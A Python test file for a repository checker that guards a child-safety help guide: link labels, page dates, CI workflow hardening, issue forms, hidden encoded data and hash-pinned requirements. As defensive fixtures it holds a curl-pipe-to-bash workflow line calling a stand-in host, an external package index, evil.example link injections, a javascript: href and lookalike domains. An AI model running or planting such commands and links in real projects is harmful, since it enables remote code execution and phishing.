#!/usr/bin/env python3
"""Tests for tools/check_repo.py (red-team classes C10, C11-C13, C14-C17) and for
the requirements rule of .ci/run (C11, C12).
Run: bash .ci/run test. The last line printed is "N passed, N failed"."""
import datetime
import importlib.util
import os
import shutil
import subprocess
import sys
import tempfile
import unittest

sys.dont_write_bytecode = True
HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(HERE)

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from testkit import load, main  # noqa: E402  (tools/ is not on sys.path under -I)


rp = load("check_repo")
cg = load("check_guide")
LIST = rp.load_list("childline.org.uk   Childline\n"
                    "www.microsoft.com/en-us/photodna/  Microsoft (PhotoDNA pages)\n"
                    "iwf.org.uk   Internet Watch Foundation (IWF)\n"
                    "stopitnow.org.uk   Stop It Now UK and Ireland\n"
                    "stopitnow.org   Stop It Now (United States)\n")
TODAY = datetime.date(2026, 12, 3)


class C10LinkWords(unittest.TestCase):
    def test_words_name_another_organisation(self):
        bad = "[Childline's site](https://www.microsoft.com/en-us/PhotoDNA/Default)\n"
        self.assertEqual([r for _, r in rp.link_word_problems(bad, LIST)], [rp.LINK_OWNER.format(
            "Childline's site", "Childline", "Microsoft (PhotoDNA pages)", "www.microsoft.com")])
        for good in ("[Childline's site](https://www.childline.org.uk)",
                     "[IWF report page](https://www.iwf.org.uk/report)",
                     "[report form](https://www.iwf.org.uk/report)",
                     "[Stop It Now's helpline](https://www.stopitnow.org.uk/helpline/)"):
            self.assertEqual(rp.link_word_problems(good + "\n", LIST), [], good)


class C15Dates(unittest.TestCase):
    def test_one_date_in_one_form(self):
        ok = "# T\n\nFacts on this page were checked on 23 November 2026.\n"
        self.assertEqual(rp.date_problems(ok, TODAY), [])
        self.assertEqual(rp.date_problems("# T\n\nFacts were checked in November 2026.\n", TODAY), [])
        self.assertEqual(rp.date_problems("# T\n\nNo date.\n", TODAY), [rp.DATE_NONE])
        for bad in ("Facts on this page were checked on 23.11.2024. Links were checked in November 2026.",
                    "Checked on 23 November 2026. Numbers were not checked since 2019.",
                    "Checked on 1 May 2026. Checked on 23 November 2026."):
            self.assertEqual(len(rp.date_problems("# T\n\n" + bad + "\n", TODAY)), 1, bad)
            self.assertTrue(rp.date_problems("# T\n\n" + bad + "\n", TODAY)[0].startswith("page gives"))
        self.assertEqual(rp.date_problems("# T\n\nchecked on 1 December 2025.\n", TODAY),
                         [rp.DATE_OLD.format("2025-12-01")])
        self.assertEqual(rp.date_problems("# T\n\nchecked on 1 June 2027.\n", TODAY),
                         [rp.DATE_FUTURE.format("2027-06-01")])

    def test_the_date_sits_in_the_opening(self):
        late = "# T\n\nIntro.\n\n## About\n\nFacts were checked on 23 November 2026.\n"
        self.assertEqual(rp.date_problems(late, TODAY), [rp.DATE_PLACE])
        early = "# T\n\nFacts were checked on 23 November 2026.\n\n## About\n\nText.\n"
        self.assertEqual(rp.date_problems(early, TODAY), [])


class C13Github(unittest.TestCase):
    def test_workflows(self):
        with open(os.path.join(REPO, ".github/workflows/ci.yml"), encoding="utf-8") as f:
            ci = f.read()
        self.assertEqual(rp.workflow_problems(rp.CI_WORKFLOW, ci), [])
        bad = ci.replace("  pull_request:\n", "  pull_request_target:\n")
        self.assertIn(rp.WF_TARGET, [r for _, r in rp.workflow_problems(rp.CI_WORKFLOW, bad)])
        bad = ci.replace("contents: read", "contents: write")
        self.assertIn(rp.WF_WRITE.format("contents: write"), [r for _, r in rp.workflow_problems(rp.CI_WORKFLOW, bad)])
        bad = ci.replace("run: bash .ci/run", "run: curl -s https://x.example/a.sh | bash")
        self.assertIn(rp.WF_PIPE, [r for _, r in rp.workflow_problems(rp.CI_WORKFLOW, bad)])
        bad = ci.replace("@11bd71901bbe5b1630ceea73d27597364c9af683", "@v4")
        self.assertIn(rp.WF_PIN.format("actions/checkout@v4"), [r for _, r in rp.workflow_problems(rp.CI_WORKFLOW, bad)])
        bad = ci.replace("    runs-on:", "    if: false\n    runs-on:")
        self.assertIn(rp.WF_OFF, [r for _, r in rp.workflow_problems(rp.CI_WORKFLOW, bad)])
        bad = ci.replace("bash .ci/run", "echo ok")
        self.assertIn(rp.CI_MISSING, [r for _, r in rp.workflow_problems(rp.CI_WORKFLOW, bad)])

    def test_codeowners(self):
        with open(os.path.join(REPO, ".github/CODEOWNERS"), encoding="utf-8") as f:
            owners = f.read()
        self.assertEqual(rp.codeowners_problems(owners, cg.codeowners_match), [])
        bare = owners.replace("@OWNER/maintainers", "@")
        self.assertIn(rp.OWNER_BAD.format("@"), [r for _, r in rp.codeowners_problems(bare, cg.codeowners_match)])
        mixed = owners.replace("/LICENSE                         @OWNER/maintainers", "/LICENSE @outside-helper")
        self.assertIn(rp.OWNER_MIXED.format("@OWNER/maintainers, @outside-helper"),
                      [r for _, r in rp.codeowners_problems(mixed, cg.codeowners_match)])
        gone = owners.replace("/SOURCES.md", "/SOURCES.txt")
        self.assertIn(rp.OWNER_NONE.format("SOURCES.md"), [r for _, r in rp.codeowners_problems(gone, cg.codeowners_match)])

    def test_forms_and_buttons(self):
        with open(os.path.join(REPO, ".github/ISSUE_TEMPLATE/correction.yml"), encoding="utf-8") as f:
            form = f.read()
        path = ".github/ISSUE_TEMPLATE/correction.yml"
        self.assertEqual(rp.form_problems(path, form, LIST), [])
        asks = form + ("  - type: input\n    id: where\n    attributes:\n"
                       "      label: Paste the web address of the images here\n")
        self.assertIn(rp.FORM_ASKS_LINK, [r for _, r in rp.form_problems(path, asks, LIST)])
        self.assertIn(rp.FORM_WARNING, [r for _, r in rp.form_problems(
            path, form.replace("**Never put abuse material here.**", "**Thanks.**"), LIST)])
        with open(os.path.join(REPO, rp.PR_TEMPLATE), encoding="utf-8") as f:
            pr = f.read()
        self.assertEqual(rp.form_problems(rp.PR_TEMPLATE, pr, LIST), [])
        self.assertIn(rp.FORM_ASKS_LINK, [r for _, r in rp.form_problems(
            rp.PR_TEMPLATE, pr + "\n## Where you saw it\n\nWeb address of the images:\n", LIST)])
        config = ("blank_issues_enabled: false\ncontact_links:\n"
                  "  - name: Report abuse material (UK) - Internet Watch Foundation\n"
                  "    url: https://www.iwf.org.uk/report\n"
                  "    about: Never post abuse material, or links to it, here. Report it to the IWF.\n")
        self.assertEqual(rp.form_problems(rp.ISSUE_CONFIG, config, LIST), [])
        moved = config.replace("https://www.iwf.org.uk/report", "https://www.childline.org.uk")
        self.assertEqual([r for _, r in rp.form_problems(rp.ISSUE_CONFIG, moved, LIST)], [rp.BUTTON_OWNER.format(
            "Report abuse material (UK) - Internet Watch Foundation", "www.childline.org.uk", "Childline")])
        blank = config.replace("false", "true").replace(
            "Never post abuse material, or links to it, here. Report it to the IWF.",
            "post the web address here first; we will check it")
        found = [r for _, r in rp.form_problems(rp.ISSUE_CONFIG, blank, LIST)]
        self.assertIn(rp.BLANK_ISSUES, found)
        self.assertIn(rp.FORM_WARNING, found)


class C14C16C17Files(unittest.TestCase):
    def test_sources_links_go_through_cited_hosts(self):
        text = ("- [IWF](https://www.iwf.org.uk/a)\n- [law](https://www.legislation.gov.uk/x)\n"
                "- [NCMEC report centre](https://www.missingkids-report.org/report)\n")
        self.assertEqual(rp.cited_problems(text, LIST, {"legislation.gov.uk"}),
                         [(3, rp.CITED_NOT_LISTED.format("www.missingkids-report.org"))])

    def test_encoded_data_across_lines(self):
        import base64
        data = base64.b64encode(bytes(range(256)) * 4).decode()
        wrapped = "\n".join(data[i:i + 76] for i in range(0, len(data), 76))
        self.assertTrue(rp.encoded_problems("<!--\n%s\n-->" % wrapped))
        self.assertTrue(rp.encoded_problems((bytes(range(256)) * 2).hex()))
        self.assertTrue(rp.encoded_problems("P2 8 8 255\n" + " ".join(["12"] * 64)))
        prefixed = "\n".join("[q%d]: https://www.iwf.org.uk '%s'" % (i, data[i * 76:(i + 1) * 76])
                              for i in range(10))
        self.assertTrue(rp.encoded_problems(prefixed))
        with open(os.path.join(REPO, "SOURCES.md"), encoding="utf-8") as f:
            self.assertEqual(rp.encoded_problems(f.read()), [])

    def test_license_is_pinned(self):
        import hashlib
        with open(os.path.join(REPO, "LICENSE"), encoding="utf-8") as f:
            text = f.read()
        self.assertEqual(hashlib.sha256(text.encode()).hexdigest(), rp.LICENSE_SHA256)
        self.assertNotEqual(hashlib.sha256((text + "Call 0800 555 0199.\n").encode()).hexdigest(),
                            rp.LICENSE_SHA256)


class C11C12Requirements(unittest.TestCase):
    """.ci/run refuses a requirements file with anything but pinned, hashed lines,
    before any Python runs (so no wheel, path or option is ever installed)."""
    def run_ci(self, requirements):
        tmp = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, tmp, True)
        os.makedirs(os.path.join(tmp, ".ci"))
        os.makedirs(os.path.join(tmp, "tools"))
        shutil.copy(os.path.join(REPO, ".ci/run"), os.path.join(tmp, ".ci/run"))
        with open(os.path.join(tmp, "tools/requirements.txt"), "w") as f:
            f.write(requirements)
        return subprocess.run(["bash", os.path.join(tmp, ".ci/run"), "check"], capture_output=True,
                              text=True, timeout=60, env=dict(os.environ, PYTHON="/nonexistent"))

    def test_local_wheels_paths_and_options_are_refused(self):
        h = "    --hash=sha256:" + "a" * 64 + "\n"
        for bad in ("./guide_hook-1.0-py3-none-any.whl --hash=sha256:" + "a" * 64 + "\n",
                    "pkg==1.0\n", "-e .\n", "--index-url https://x.example/\npkg==1.0 \\\n" + h,
                    "pkg @ https://x.example/pkg.whl \\\n" + h, "pkg==1.0 \\\n" + h + "./x.whl\n"):
            with self.subTest(bad=bad):
                run = self.run_ci(bad)
                self.assertEqual(run.returncode, 1, run.stdout + run.stderr)
                self.assertIn("only 'name==version", run.stderr)

    def test_pinned_lines_pass_the_format_rule(self):
        run = self.run_ci("# c\npkg==1.0 \\\n    --hash=sha256:" + "a" * 64 + " \\\n    --hash=sha256:" + "b" * 64 + "\n")
        self.assertNotIn("only 'name==version", run.stderr)  # it fails later: no such Python


def real_checker():
    """check_guide's Checker with the repository's own address list loaded."""
    checker = cg.Checker(REPO)
    checker.texts = {}
    for path in (cg.LIST_PATH, cg.SOURCES):
        with open(os.path.join(REPO, path), encoding="utf-8") as f:
            checker.texts[path] = f.read()
    checker.load_list()
    return checker


class DataAndSiteLinks(unittest.TestCase):
    """Addresses in data/ and site/ pass the same host check as pages' links."""

    @classmethod
    def setUpClass(cls):
        cls.checker = real_checker()

    def test_unlisted_hosts_in_data_fields_fail(self):
        for key in ("url", "chat", "text", "label"):
            yaml_text = "routes:\n- kind: report\n  %s: 'See https://evil.example/report now'\n" % key
            with self.subTest(key=key):
                found = rp.data_link_problems(self.checker, "data/countries/gb.yaml", yaml_text)
                self.assertTrue(any("evil.example" in r for _, r in found), found)
                self.assertEqual(found[0][0], 3)
        found = rp.data_link_problems(self.checker, "data/routes.json",
                                      '{"routes": [{"email": "report@evil.example"}]}')
        self.assertTrue(any("evil.example" in r for _, r in found), found)
        found = rp.data_link_problems(self.checker, "data/global.yaml", "text: www.evil.example/x\n")
        self.assertTrue(found)

    def test_citations_follow_the_sources_rule(self):
        ok = "sources:\n- https://www.some-ministry.example/page\n- http://old.gov.example/x\n"
        self.assertEqual(rp.data_link_problems(self.checker, "data/countries/gb.yaml", ok), [])
        for bad in ("sources:\n- https://bit.ly/abc\n", "sources:\n- https://www.iwf.org.uk@evil.example/\n",
                    "note: see https://www.rnissingkids.org/\n"):
            with self.subTest(bad=bad):
                self.assertTrue(rp.data_link_problems(self.checker, "data/countries/gb.yaml", bad))

    def test_listed_hosts_pass(self):
        good = "routes:\n- url: https://www.iwf.org.uk/report\n  text: '[IWF](https://www.iwf.org.uk/report)'\n"
        self.assertEqual(rp.data_link_problems(self.checker, "data/countries/gb.yaml", good), [])

    def test_site_templates_scripts_and_styles(self):
        for text in ('<a href="https://evil.example/help">Help</a>', '<link href="//evil.example/x.css">',
                     'var away = "https://evil.example/";', "body { background: url(https://evil.example/a) }",
                     '<a href="javascript:alert(1)">x</a>', "location.href = 'data:text/html,hi';"):
            with self.subTest(text=text):
                self.assertTrue(rp.site_link_problems(self.checker, "x\n" + text + "\n"), text)
        for text in ('<a href="{{ exit_url }}">Leave</a>', 'a[href^="tel:"] { white-space: nowrap; }',
                     '<a href="https://www.iwf.org.uk/report">IWF</a>', "// Quick exit: location.replace()"):
            with self.subTest(text=text):
                self.assertEqual(rp.site_link_problems(self.checker, text), [], text)

    def test_the_repository_data_and_site_pass(self):
        for folder, pattern, func in (("data", rp.DATA_LINKS, rp.data_link_problems),
                                      ("site", rp.SITE_FILES, rp.site_link_problems)):
            for base, _, names in os.walk(os.path.join(REPO, folder)):
                for name in names:
                    path = os.path.relpath(os.path.join(base, name), REPO)
                    if not pattern.fullmatch(path):
                        continue
                    with open(os.path.join(REPO, path), encoding="utf-8") as f:
                        text = f.read()
                    found = func(self.checker, path, text) if folder == "data" else func(self.checker, text)
                    self.assertEqual(found, [], path)


if __name__ == "__main__":
    sys.exit(main())
